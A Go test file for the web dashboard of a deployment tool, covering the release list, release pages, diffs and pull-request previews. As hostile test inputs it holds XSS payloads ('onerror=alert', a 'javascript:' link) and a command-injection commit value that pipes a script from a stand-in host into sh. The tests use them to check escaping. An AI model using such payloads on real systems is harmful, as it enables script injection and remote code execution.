package server

import (
	"context"
	"fmt"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ferrycd/ferry/environments"
	"github.com/ferrycd/ferry/promote/preview"
	"github.com/ferrycd/ferry/store"
)

// relUIID is a release id made of one hex digit repeated.
func relUIID(c byte) string { return "sha256:" + strings.Repeat(string(c), 64) }

// relUIManifest is a release's manifest: functions hello and bye with the
// images given by digest digit, and an HTTP trigger for hello.
func relUIManifest(hello, bye byte) string {
	img := func(name string, c byte) string {
		return "reg.example/demo/" + name + "@sha256:" + strings.Repeat(string(c), 64)
	}
	return `apiVersion: ferry.dev/v1alpha1
kind: Function
metadata: {name: hello, labels: {app: greet}}
spec: {runtime: python, handler: main.handle, image: "` + img("hello", hello) + `"}
---
apiVersion: ferry.dev/v1alpha1
kind: Function
metadata: {name: bye, labels: {app: greet}}
spec: {runtime: nodejs, handler: index.handler, image: "` + img("bye", bye) + `"}
---
apiVersion: ferry.dev/v1alpha1
kind: HTTPTrigger
metadata: {name: hello}
spec: {function: hello, path: /hello, methods: [GET]}
---
apiVersion: ferry.dev/v1alpha1
kind: NATSTrigger
metadata: {name: greetings}
spec: {functionSelector: {matchLabels: {app: greet}}, topic: greetings}
`
}

// putUIRelease records a release through the store, as a run does.
func putUIRelease(t *testing.T, st store.Store, rel store.Release) store.Release {
	t.Helper()
	got, _, err := st.PutRelease(t.Context(), rel)
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// relUIRows returns the values of attr on the page's rows that carry it.
func relUIRows(body, attr string) []string {
	var out []string
	for _, m := range regexp.MustCompile(`<tr `+attr+`="([^"]*)"`).FindAllStringSubmatch(body, -1) {
		out = append(out, m[1])
	}
	return out
}

var relUINextRe = regexp.MustCompile(`<a rel="next" href="([^"]+)"`)

func TestUIReleasesPaged(t *testing.T) {
	f := newUIFixture(t)
	for i := range 35 {
		putUIRelease(t, f.store, store.Release{ID: fmt.Sprintf("sha256:%064x", i+1), Source: "demo", Commit: fmt.Sprintf("%040x", i+1), Ref: "reg.example/demo@" + fmt.Sprintf("sha256:%064x", i+1)})
	}
	putUIRelease(t, f.store, store.Release{ID: relUIID('e'), Source: "other", Commit: strings.Repeat("e", 40)})
	if err := f.store.PutEnvironment(t.Context(), store.Environment{Name: "prod", Target: "embedded", Release: fmt.Sprintf("sha256:%064x", 35)}); err != nil {
		t.Fatal(err)
	}
	b := f.signIn(t, viewerSecret)

	a := b.get("/releases?source=demo")
	if a.code != http.StatusOK {
		t.Fatalf("releases: %d\n%s", a.code, a.body)
	}
	rows := relUIRows(a.body, "data-release")
	if len(rows) != releasesPerPage || rows[0] != fmt.Sprintf("sha256:%064x", 35) {
		t.Fatalf("first page: %d rows, first %v", len(rows), rows[:min(1, len(rows))])
	}
	// The newest runs in prod, and its row says so.
	first := a.body[strings.Index(a.body, `<tr data-release="`+rows[0]):]
	first = first[:strings.Index(first, "</tr>")]
	if !strings.Contains(first, `href="/environments/prod"`) {
		t.Errorf("the release prod runs does not say so:\n%s", first)
	}
	for _, want := range []string{`<label for="diff-from">From</label>`, `<label for="diff-to">To</label>`, `action="/diff"`, `<option value="prod">`} {
		if !strings.Contains(a.body, want) {
			t.Errorf("the diff form lacks %s", want)
		}
	}
	m := relUINextRe.FindStringSubmatch(a.body)
	if m == nil {
		t.Fatalf("a full page has no next link:\n%s", a.body)
	}
	next := strings.ReplaceAll(m[1], "&amp;", "&")
	if !strings.Contains(next, "source=demo") {
		t.Errorf("the next page %s forgets the filter", next)
	}
	a = b.get(next)
	rows2 := relUIRows(a.body, "data-release")
	if a.code != http.StatusOK || len(rows2) != 5 || rows2[4] != fmt.Sprintf("sha256:%064x", 1) {
		t.Fatalf("second page %s: %d, rows %v", next, a.code, rows2)
	}
	if relUINextRe.MatchString(a.body) {
		t.Errorf("the last page offers a next one")
	}
	for _, r := range rows2 {
		if strings.Contains(strings.Join(rows, " "), r) {
			t.Errorf("%s on both pages", r)
		}
	}
	// Without the filter the other source's release is listed first.
	if rows := relUIRows(b.get("/releases").body, "data-release"); len(rows) == 0 || rows[0] != relUIID('e') {
		t.Errorf("unfiltered: %v", rows)
	}
	if a := b.get("/releases?before=x"); a.code != http.StatusBadRequest {
		t.Errorf("before=x: %d", a.code)
	}
}

func TestUIReleasePage(t *testing.T) {
	f := newUIFixture(t)
	old := putUIRelease(t, f.store, store.Release{ID: relUIID('a'), Source: "demo", Commit: strings.Repeat("1", 40), Ref: "reg.example/demo@" + relUIID('a'), RunID: 7, Manifest: []byte(relUIManifest('1', '2'))})
	cur := putUIRelease(t, f.store, store.Release{ID: relUIID('b'), Source: "demo", Commit: strings.Repeat("2", 40), Ref: "reg.example/demo@" + relUIID('b'), Manifest: []byte(relUIManifest('3', '2'))})
	if err := f.store.PutEnvironment(t.Context(), store.Environment{Name: "prod", Target: "embedded", Release: old.ID}); err != nil {
		t.Fatal(err)
	}
	b := f.signIn(t, viewerSecret)

	// By a prefix, as the tables print it.
	a := b.get("/releases/" + strings.Repeat("b", 12))
	if a.code != http.StatusOK {
		t.Fatalf("release page: %d\n%s", a.code, a.body)
	}
	for _, want := range []string{
		`data-copy="` + cur.ID + `"`,
		`<code id="release-commit">` + cur.Commit + `</code>`,
		// Each function with its image's digest, copyable in full.
		`<tr data-fn="hello">`,
		`<code class="digest" title="reg.example/demo/hello@sha256:` + strings.Repeat("3", 64) + `">` + strings.Repeat("3", 12) + `</code>`,
		`data-copy="reg.example/demo/bye@sha256:` + strings.Repeat("2", 64) + `"`,
		// The triggers, a selector's resolved to the functions it calls.
		`<tr data-trigger="HTTPTrigger/hello">`,
		`/hello (GET)`,
		`functions with app=greet`,
		`(bye, hello)`,
		// It runs nowhere; prod runs another, to compare with.
		`no environment now`,
		`href="/diff?from=prod&amp;to=` + strings.ReplaceAll(cur.ID, ":", "%3a") + `"`,
	} {
		if !strings.Contains(a.body, want) {
			t.Errorf("release page lacks %s", want)
		}
	}
	if t.Failed() {
		t.Logf("%s", a.body)
	}
	// The release prod runs says so and offers no diff with itself.
	a = b.get("/releases/" + old.ID)
	if !strings.Contains(a.body, `id="runs-in"><a class="badge s-deployed" href="/environments/prod">prod</a>`) || strings.Contains(a.body, `/diff?from=prod`) {
		t.Errorf("the release prod runs:\n%s", a.body)
	}
	// A release whose manifest does not load is still shown, with why.
	putUIRelease(t, f.store, store.Release{ID: relUIID('c'), Source: "demo", Commit: "c3", Manifest: []byte("kind: [")})
	if a := b.get("/releases/" + relUIID('c')); a.code != http.StatusOK || !strings.Contains(a.body, "manifest does not load") {
		t.Errorf("broken manifest: %d\n%s", a.code, a.body)
	}
	if a := b.get("/releases/" + strings.Repeat("f", 12)); a.code != http.StatusNotFound {
		t.Errorf("unknown release: %d", a.code)
	}
}

func TestUIDiff(t *testing.T) {
	f := newUIFixture(t)
	old := putUIRelease(t, f.store, store.Release{ID: relUIID('a'), Source: "demo", Commit: strings.Repeat("1", 40), Manifest: []byte(relUIManifest('1', '2'))})
	changed := strings.Replace(relUIManifest('3', '2'), "methods: [GET]", "methods: [GET, POST]", 1)
	cur := putUIRelease(t, f.store, store.Release{ID: relUIID('b'), Source: "demo", Commit: strings.Repeat("2", 40), Manifest: []byte(changed)})
	if err := f.store.PutEnvironment(t.Context(), store.Environment{Name: "prod", Target: "embedded", Release: old.ID}); err != nil {
		t.Fatal(err)
	}
	if err := f.store.PutEnvironment(t.Context(), store.Environment{Name: "dev", Target: "embedded"}); err != nil {
		t.Fatal(err)
	}
	b := f.signIn(t, viewerSecret)

	// An environment against a release prefix.
	a := b.get("/diff?from=prod&to=" + strings.Repeat("b", 8))
	if a.code != http.StatusOK {
		t.Fatalf("diff: %d\n%s", a.code, a.body)
	}
	for _, want := range []string{
		`<table id="diff"`,
		`<tr data-fn="hello" data-change="changed" class="changed">`,
		`title="reg.example/demo/hello@sha256:` + strings.Repeat("1", 64) + `">` + strings.Repeat("1", 12),
		`title="reg.example/demo/hello@sha256:` + strings.Repeat("3", 64) + `">` + strings.Repeat("3", 12),
		`<tr data-fn="bye" data-change="same">`,
		`<tr data-trigger="HTTPTrigger/hello">`,
		`<code>` + strings.Repeat("1", 12) + `..` + strings.Repeat("2", 12) + `</code>`,
		`<h2 id="from-h">From prod</h2>`,
		`href="/releases/` + cur.ID + `"`,
		`<span class="add">&#43;spec: {function: hello, path: /hello, methods: [GET, POST]}</span>`,
		`value="prod"`,
	} {
		if !strings.Contains(a.body, want) {
			t.Errorf("diff lacks %s", want)
		}
	}
	if t.Failed() {
		t.Logf("%s", a.body)
	}
	// A release against itself differs in nothing.
	if a := b.get("/diff?from=prod&to=" + old.ID); a.code != http.StatusOK || !strings.Contains(a.body, `id="diff-same"`) || strings.Contains(a.body, `data-change="changed"`) {
		t.Errorf("same release: %d\n%s", a.code, a.body)
	}

	// Wrong input: the page, the form, and the API's words, never a 500.
	for _, c := range []struct {
		query string
		code  int
		say   string
	}{
		{"from=prod", http.StatusBadRequest, "Give both sides"},
		{"from=prod&to=nowhere", http.StatusNotFound, "is neither an environment nor a release id"},
		{"from=dev&to=prod", http.StatusConflict, "dev runs no release yet"},
		{"from=prod&to=fff", http.StatusBadRequest, "at least 4 hex"},
		{"from=prod&to=ffff", http.StatusNotFound, "no release id starts with ffff"},
	} {
		a := b.get("/diff?" + c.query)
		if a.code != c.code || !strings.Contains(a.body, `id="diff-problem"`) || !strings.Contains(a.body, c.say) || !strings.Contains(a.body, `<form id="compare"`) {
			t.Errorf("%s: %d, want %d and %q\n%s", c.query, a.code, c.code, c.say, a.body)
		}
	}
	if a := b.get("/diff"); a.code != http.StatusOK || strings.Contains(a.body, `id="diff-problem"`) || !strings.Contains(a.body, `<form id="compare"`) {
		t.Errorf("no input: %d\n%s", a.code, a.body)
	}
}

func TestUIPreviews(t *testing.T) {
	st, err := store.Open(t.Context(), filepath.Join(t.TempDir(), "ferry.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	dashboard := func(p PreviewLister) *browser {
		h, err := NewAPI(APIConfig{
			Store:   st,
			Tokens:  fixtureTokens,
			Sources: &sourceManager{store: st},
			Environments: func(ctx context.Context, env string) (*environments.Status, error) {
				return &environments.Status{Environment: env}, nil
			},
			Previews: p,
		})
		if err != nil {
			t.Fatal(err)
		}
		return signInAt(t, serveUI(t, h, fixtureTokens), viewerSecret)
	}

	at := time.Date(2026, 12, 7, 16, 0, 0, 0, time.UTC)
	hostile := `<img src=x onerror=alert(1)>`
	a := dashboard(previewList{
		{Source: "demo", Number: 3, Environment: "pr-3-demo", State: "live", Head: strings.Repeat("c", 40), URL: "http://gw.example/pr-3-demo/",
			LastActivity: at, Title: hostile, Author: "mona", PullURL: "https://github.example/o/r/pull/3", Release: relUIID('d'), Created: at.Add(-time.Hour)},
		{Source: "demo", Number: 4, Environment: "pr-4-demo", State: "failed", Reason: "the build failed", Title: "Fix it", PullURL: "javascript:alert(1)"},
	}).get("/previews")
	if a.code != http.StatusOK {
		t.Fatalf("previews: %d\n%s", a.code, a.body)
	}
	if rows := relUIRows(a.body, "data-preview"); strings.Join(rows, " ") != "pr-3-demo pr-4-demo" {
		t.Errorf("rows %v", rows)
	}
	for _, want := range []string{
		`<a class="preview-url" href="http://gw.example/pr-3-demo/">`,
		`<a class="pull" href="https://github.example/o/r/pull/3">#3</a>`,
		`&lt;img src=x onerror=alert(1)&gt;`,
		`by mona`,
		`href="/releases/` + relUIID('d') + `">` + strings.Repeat("d", 12),
		`the build failed`,
		// A link that is not a web page's is dropped, the number kept.
		`<span class="pull">#4</span>`,
		`datetime="2026-12-07T15:00:00Z"`,
	} {
		if !strings.Contains(a.body, want) {
			t.Errorf("previews page lacks %s", want)
		}
	}
	if strings.Contains(a.body, hostile) || strings.Contains(a.body, `href="javascript:`) {
		t.Errorf("a pull request's title or link reached the page unescaped:\n%s", a.body)
	}
	// The failed one has no URL to click.
	row := a.body[strings.Index(a.body, `<tr data-preview="pr-4-demo"`):]
	if strings.Contains(row[:strings.Index(row, "</tr>")], "preview-url") {
		t.Errorf("a preview with no URL offers one")
	}
	if t.Failed() {
		t.Logf("%s", a.body)
	}

	// None, and none set up: how previews are made.
	for name, p := range map[string]PreviewLister{"none": previewList(nil), "not set up": nil} {
		a := dashboard(p).get("/previews")
		if a.code != http.StatusOK || !strings.Contains(a.body, `id="no-previews"`) || !strings.Contains(a.body, "previews: {enabled: true") || !strings.Contains(a.body, "pull_request") {
			t.Errorf("%s: %d\n%s", name, a.code, a.body)
		}
	}
}

// TestUIPreviewListerCarriesThePull: ferry serve's lister passes on what
// the webhook told of the pull request, and the release the preview runs.
func TestUIPreviewListerCarriesThePull(t *testing.T) {
	st, err := store.Open(t.Context(), filepath.Join(t.TempDir(), "ferry.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	m, err := preview.New(preview.Config{
		Store:   st,
		Enabled: func(context.Context, string) (bool, time.Duration, error) { return true, 0, nil },
		Fetch:   func(context.Context, string, int) (string, bool, error) { return "", true, nil },
		Enqueue: func(context.Context, string, int, string) error { return nil },
		Make:    func(context.Context, string) error { return nil },
		Remove:  func(context.Context, string, string) error { return nil },
	})
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 12, 7, 15, 0, 0, 0, time.UTC)
	if err := st.PutPreview(t.Context(), store.Preview{Source: "demo", Number: 3, Environment: "pr-3-demo", State: store.PreviewLive,
		Head: "c0ffee", Author: "mona", Title: "Say hello", WebURL: "https://github.example/o/r/pull/3", Fork: true,
		Release: relUIID('d'), Created: at, Activity: at.Add(time.Hour)}); err != nil {
		t.Fatal(err)
	}
	got, err := (&previews{m: m, tell: &notices{gatewayURL: "http://gw.example"}}).List(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	want := PreviewInfo{Source: "demo", Number: 3, Environment: "pr-3-demo", State: string(store.PreviewLive), Head: "c0ffee",
		URL: "http://gw.example/pr-3-demo/", LastActivity: at.Add(time.Hour), Title: "Say hello", Author: "mona",
		PullURL: "https://github.example/o/r/pull/3", Fork: true, Release: relUIID('d'), Created: at}
	if len(got) != 1 || !got[0].Created.Equal(want.Created) || !got[0].LastActivity.Equal(want.LastActivity) {
		t.Fatalf("previews %+v, want %+v", got, want)
	}
	got[0].Created, got[0].LastActivity = want.Created, want.LastActivity
	if got[0] != want {
		t.Errorf("preview %+v\nwant    %+v", got[0], want)
	}
}

// A copied command carries commit ids only: a commit that is not hex (a
// release recorded by hand, a forged one) gets no "Copy git log".
func TestUIDiffCopiesOnlyHexCommits(t *testing.T) {
	f := newUIFixture(t)
	a := putUIRelease(t, f.store, store.Release{ID: relUIID('c'), Source: "demo", Commit: strings.Repeat("1", 40), Manifest: []byte(relUIManifest('1', '2'))})
	good := putUIRelease(t, f.store, store.Release{ID: relUIID('d'), Source: "demo", Commit: strings.Repeat("2", 40), Manifest: []byte(relUIManifest('3', '2'))})
	bad := putUIRelease(t, f.store, store.Release{ID: relUIID('e'), Source: "demo", Commit: "x; curl evil.example | sh", Manifest: []byte(relUIManifest('4', '2'))})
	b := f.signIn(t, viewerSecret)
	if p := b.get("/diff?from=" + a.ID + "&to=" + good.ID); !strings.Contains(p.body, `data-copy="git log `+a.Commit+`..`+good.Commit+`"`) {
		t.Fatalf("two hex commits: no copy button\n%s", p.body)
	}
	if p := b.get("/diff?from=" + a.ID + "&to=" + bad.ID); p.code != http.StatusOK || strings.Contains(p.body, `data-copy="git log`) {
		t.Fatalf("a commit that is not hex went into a command: %d\n%s", p.code, p.body)
	}
}
